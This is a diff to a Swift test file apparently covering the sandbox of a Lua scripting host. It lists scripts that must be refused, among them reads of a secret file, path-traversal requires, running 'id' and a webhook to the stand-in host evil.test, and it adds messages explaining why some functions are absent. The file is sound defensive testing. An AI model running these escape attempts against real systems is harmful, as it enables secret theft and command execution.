@@ -48,7 +48,7 @@ extension HostileScript {
             "os.rename", "read @/secret.txt", flag: "--allow-read=@/secret.txt"),
         denied(
             "a temporary name", "os.tmpname()", "os.tmpname", "write /tmp", flag: "--allow-write=/tmp"),
-        missing("io.tmpfile", "io.tmpfile()", field: "tmpfile"),
+        absent("io.tmpfile", "io.tmpfile()", "take a name and open it: io.open(os.tmpname(), 'w')"),
         notFound("require of an absolute path", module: "@/secret"),
         notFound("require of ..", module: "../secret"),
         notFound("require of two dots", module: "..secret"),
@@ -69,8 +69,12 @@ extension HostileScript {
         denied(
             "a program to tell of it", "require('notify').command('id')('now')", "io.popen", "run id",
             flag: "--allow-run=id"),
-        missing("os.exit", "os.exit(0)", field: "exit"),
-        missing("os.setlocale", "os.setlocale('C')", field: "setlocale"),
+        absent(
+            "os.exit", "os.exit(0)",
+            "a script cannot end the program around it: return ends the script, error(text) fails it"),
+        absent(
+            "os.setlocale", "os.setlocale('C')",
+            "the locale belongs to the program around a script and stays 'C'"),
         denied(
             "the network by notify", "require('notify').webhook('https://evil.test/x')('now')",
             "notify.webhook", "connect to evil.test:443", flag: "--allow-net=evil.test:443"),
